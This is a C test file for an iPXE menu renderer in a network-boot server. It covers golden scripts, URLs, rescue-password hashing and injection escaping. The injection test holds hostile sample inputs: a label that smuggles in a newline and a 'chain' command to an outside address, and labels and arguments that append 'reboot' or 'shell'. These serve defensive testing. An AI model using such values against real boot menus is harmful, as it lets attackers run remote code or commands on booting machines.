/*
 * renderer_ipxe_test.c - the iPXE menu renderer: golden scripts of the
 * remote-rescue setup for a BIOS and a UEFI client, script syntax (labels,
 * goto targets), architecture filtering, server address and port in URLs,
 * the rescue password, injection through labels, paths and arguments, and
 * the plugin loaded from the build directory serving /menu.ipxe.
 */
#include "config.h"

#include "renderer_util.h"
#include "../plugins/ipxe/ipxe_render.h"

static char *render(const pxb_boot_model *m, const struct pxb_client *c)
{
	char *buf = NULL;
	size_t len = 0;

	if (pxb_ipxe_render_buf(m, c, &buf, &len, count_warn, NULL) < 0)
		return NULL;
	return buf;
}

static void check_syntax(const char *script, const char *what)
{
	char err[256];

	if (!ok(script && ipxe_check(script, err, sizeof(err)) == 0, "%s: script is well formed",
		what))
		diag("%s", err);
}

static void test_golden(void)
{
	pxb_boot_model *m = model_from(remote_rescue_conf);
	struct pxb_client bios = test_client(0), efi = test_client(7);
	char *s;

	ok(m != NULL, "remote-rescue config builds a model");
	if (!m)
		return;
	s = render(m, &bios);
	ok(s != NULL, "BIOS script rendered");
	if (s) {
		is_golden(s, "remote-rescue-bios.ipxe");
		check_syntax(s, "BIOS");
		ok(strstr(s, "item memtest ") != NULL, "BIOS sees the memdisk entry");
		ok(strstr(s, "memtest-efi") == NULL, "BIOS does not see the EFI-only entry");
		ok(strstr(s, "initrd=") == NULL, "no initrd= argument for BIOS");
		ok(strstr(s, "${next-server}") == NULL, "no ${next-server}");
		ok(strstr(s, "http://198.18.0.1/boot/sysresccd/6.1.1/boot/x86_64/vmlinuz") != NULL,
		   "kernel URL carries the server's own address");
		ok(strstr(s, "archiso_http_srv=http://198.18.0.1/boot/sysresccd/") != NULL,
		   "${http} expanded in the arguments");
		ok(strstr(s, "rootcryptpass=$6$pxebootgolden$") != NULL, "rootcryptpass carries the hash");
		ok(strstr(s, "kernel http://198.18.0.1/boot/memdisk iso raw || goto failed") != NULL,
		   "memdisk with iso raw");
		ok(strstr(s, "choose --default rescue --timeout ${pxb-timeout} target && "
			     "goto ${target}") != NULL, "choose with default and timeout");
		ok(strstr(s, "set pxb-timeout 10000") != NULL, "timeout in milliseconds");
		free(s);
	}
	s = render(m, &efi);
	ok(s != NULL, "UEFI script rendered");
	if (s) {
		is_golden(s, "remote-rescue-efi64.ipxe");
		check_syntax(s, "UEFI");
		ok(strstr(s, "memdisk") == NULL, "a UEFI client never sees memdisk");
		ok(strstr(s, "item memtest-efi ") != NULL, "UEFI sees the EFI entry");
		ok(strstr(s, "vmlinuz initrd=sysresccd.img ") != NULL,
		   "initrd=<basename> in the kernel arguments for EFI");
		ok(strstr(s, "initrd --name sysresccd.img http://198.18.0.1/") != NULL,
		   "initrd named as the kernel argument says");
		free(s);
	}
	pxb_boot_model_free(m);
}

static void test_addresses(void)
{
	pxb_boot_model *m = model_from(remote_rescue_conf);
	struct pxb_client c = test_client(0);
	char *s;

	c.http_port = 8080;
	s = render(m, &c);
	ok(s && strstr(s, "kernel http://198.18.0.1:8080/boot/") != NULL,
	   "HTTP port other than 80 in URLs");
	ok(s && strstr(s, "archiso_http_srv=http://198.18.0.1:8080/boot/") != NULL,
	   "and in ${http}");
	free(s);

	/* No client at all: nothing tells the address; iPXE's own is the last resort. */
	s = render(m, NULL);
	ok(s && strstr(s, "http://${next-server}/boot/") != NULL,
	   "unknown client and unknown address: ${next-server}");
	free(s);
	pxb_boot_model_free(m);

	m = model_from("http = { listen = \"198.18.0.1:8080\"; };\n"
		       "entries = ({ id = \"a\"; kernel = \"/k\"; });\n");
	s = render(m, NULL);
	ok(s && strstr(s, "kernel http://198.18.0.1:8080/k") != NULL,
	   "unknown client: http.listen's address and port");
	check_syntax(s, "listen address");
	free(s);
	pxb_boot_model_free(m);

	m = model_from("boot = { server = \"198.18.0.9\"; };\n"
		       "entries = ({ id = \"a\"; kernel = \"/k\"; args = \"s=${server} m=${mac} "
		       "i=${ip} a=${arch} e=${entry} t=${token}\"; });\n");
	c = test_client(7);
	c.token = "tok123";
	s = render(m, &c);
	ok(s && strstr(s, "s=198.18.0.1 m=52:54:00:12:34:56 i=198.18.0.100 a=efi64 e= t=tok123") !=
		   NULL, "variables expanded per client (server as reached beats boot.server)");
	free(s);
	s = render(m, NULL);
	ok(s && strstr(s, "http://198.18.0.9/k") != NULL, "boot.server when the client is unknown");
	free(s);
	pxb_boot_model_free(m);
}

static void test_password(void)
{
	pxb_boot_model *m = model_from(
		"rescue = { password = \"rescueme\"; };\n"
		"entries = ({ id = \"r\"; kernel = \"/k\"; args = \"ip=dhcp\"; "
		"rescue_password = true; }, { id = \"o\"; kernel = \"/k2\"; });\n");
	struct pxb_client c = test_client(0);
	char *s = render(m, &c);

	ok(s && strstr(s, "rescueme") == NULL, "the clear password is never in the menu");
	ok(s && strstr(s, "ip=dhcp rootcryptpass=$6$") != NULL, "its SHA-512 crypt hash is");
	ok(s && strstr(s, "/k2 || goto failed") != NULL, "entries without rescue_password have none");
	check_syntax(s, "password");
	free(s);
	pxb_boot_model_free(m);
}

static void test_injection(void)
{
	pxb_boot_model *m = pxb_boot_model_new();
	struct pxb_client c = test_client(0);
	struct pxb_boot_entry e;
	char *s;
	static const char *const labels[] = {
		"evil\n:start\nchain http://198.51.100.1/x",
		"a && reboot",
		"b || shell",
		"c ; reboot",
		"#comment hides the rest",
		"show ${net0/mac} and ${pxb-timeout}",
		"quote \" ' ` end",
		"--gap",
		"tab\there\rcr",
	};
	char id[16];

	pxb_boot_set_server(m, "198.18.0.1", 80);
	for (unsigned i = 0; i < sizeof(labels) / sizeof(labels[0]); i++) {
		memset(&e, 0, sizeof(e));
		snprintf(id, sizeof(id), "l%u", i);
		e.id = id;
		e.label = labels[i];
		e.kind = PXB_BOOT_LINUX;
		e.kernel = "/boot/a b#c${x}&&d/vmlinuz";
		e.initrds[0] = "/boot/\"q'\n/initrd.img";
		e.ninitrds = 1;
		pxb_boot_add_entry(m, &e);
	}
	/* Arguments that would change the script: left out. */
	static const char *const bad_args[] = {
		"ip=dhcp && reboot", "ip=dhcp || shell", "a ; b", "a #b", "x=${net0/ip}", "a\nchain x",
	};
	for (unsigned i = 0; i < sizeof(bad_args) / sizeof(bad_args[0]); i++) {
		memset(&e, 0, sizeof(e));
		snprintf(id, sizeof(id), "bad%u", i);
		e.id = id;
		e.kind = PXB_BOOT_LINUX;
		e.kernel = "/k";
		e.args = bad_args[i];
		pxb_boot_add_entry(m, &e);
	}
	memset(&e, 0, sizeof(e));
	e.id = "start";
	e.kind = PXB_BOOT_REBOOT;
	is_int(pxb_boot_add_entry(m, &e), PXB_ERR_INVAL, "id \"start\" (a renderer label) refused");
	e.id = "a b";
	is_int(pxb_boot_add_entry(m, &e), PXB_ERR_INVAL, "id with a space refused");
	e.id = "x${y}";
	is_int(pxb_boot_add_entry(m, &e), PXB_ERR_INVAL, "id with ${ refused");
	e.id = "a\nb";
	is_int(pxb_boot_add_entry(m, &e), PXB_ERR_INVAL, "id with a newline refused");

	nwarn = 0;
	s = render(m, &c);
	check_syntax(s, "injection");
	ok(s && strstr(s, "198.51.100.1") != NULL && strstr(s, "\nchain http://198.51.100.1") == NULL,
	   "a newline in a label does not start a command");
	ok(s && strstr(s, "item l1 a \\&& reboot\n") != NULL, "&& in a label is neutralized");
	ok(s && strstr(s, "item l4 \\#comment hides the rest\n") != NULL,
	   "# in a label is neutralized");
	ok(s && strstr(s, "item l5 show $ {net0/mac} and $ {pxb-timeout}\n") != NULL,
	   "${ in a label is broken up");
	ok(s && strstr(s, "http://198.18.0.1/boot/a%20b%23c%24%7Bx%7D%26%26d/vmlinuz") != NULL,
	   "space, #, $, {, } and & in paths are percent-encoded");
	ok(s && strstr(s, "/boot/%22q%27%0A/initrd.img") != NULL,
	   "quotes and newline in paths are percent-encoded");
	is_int(nwarn, 6, "each entry with unsafe arguments is reported");
	ok(s && strstr(s, "bad") == NULL, "and left out of the script");
	free(s);
	pxb_boot_model_free(m);

	/* A label written straight out, for the record. */
	{
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);
		pxb_ipxe_put_text(f, "-x && ; ||x #y", 1);
		fclose(f);
		is_str(buf, "\\-x \\&& \\; ||x \\#y", "put_text escapes option-like and special tokens");
		free(buf);
	}
}

static void test_empty(void)
{
	pxb_boot_model *m = model_from("menu = { items = [\"memtest\"]; };\n"
				       "entries = ({ id = \"memtest\"; kind = \"memdisk\"; "
				       "image = \"/m.iso\"; });\n");
	struct pxb_client c = test_client(7);
	char *s = render(m, &c);

	ok(s && strstr(s, "Nothing to boot") != NULL && strstr(s, "choose") == NULL,
	   "a client with nothing to boot gets a message, not an empty menu");
	check_syntax(s, "empty");
	free(s);
	pxb_boot_model_free(m);
}

static void test_plugin(void)
{
	pxb_conf *conf = pxb_conf_new();
	pxb_vfs *v = pxb_vfs_new();
	pxb_host *h = pxb_host_new(v, NULL, NULL);
	struct pxb_client c = test_client(0);
	struct pxb_file f;
	char conftext[8192];
	int rc;

	load_plugin(h, conf, "ipxe");
	snprintf(conftext, sizeof(conftext), "%sipxe = { menu_path = \"/boot.ipxe\"; };\n",
		 remote_rescue_conf);
	start_plugins(h, conf, conftext);
	rc = pxb_vfs_open(v, "/boot.ipxe", PXB_VFS_TFTP, &c, &f);
	ok(rc == 0, "menu served at ipxe.menu_path over TFTP");
	if (rc == 0) {
		char *buf = file_text(&f);
		ok(f.generated, "marked generated (never cached)");
		ok(buf && strstr(buf, "#!ipxe\n") == buf && strstr(buf, "http://198.18.0.1/boot/"),
		   "served script is the rendered menu");
		free(buf);
		pxb_file_close(&f);
	}
	ok(pxb_vfs_open(v, "/menu.ipxe", PXB_VFS_HTTP, &c, &f) == PXB_ERR_NOENT,
	   "the default name is not served when another is configured");
	ok(pxb_vfs_open(v, "/boot.ipxe/x", PXB_VFS_HTTP, &c, &f) == PXB_ERR_NOENT,
	   "nothing below the menu name");
	{
		void *arg = NULL;
		const struct pxb_renderer *r = pxb_host_find(h, PXB_SVC_RENDERER, "ipxe", &arg);
		ok(r && r->size == sizeof(*r) && !strcmp(r->menu_path(arg, &c), "/boot.ipxe"),
		   "registered as the ipxe renderer with its menu path");
	}
	pxb_host_free(h);
	pxb_vfs_free(v);
	pxb_conf_free(conf);
}

int main(void)
{
	plan_lazy();
	test_golden();
	test_addresses();
	test_password();
	test_injection();
	test_empty();
	test_plugin();
	return done_testing();
}
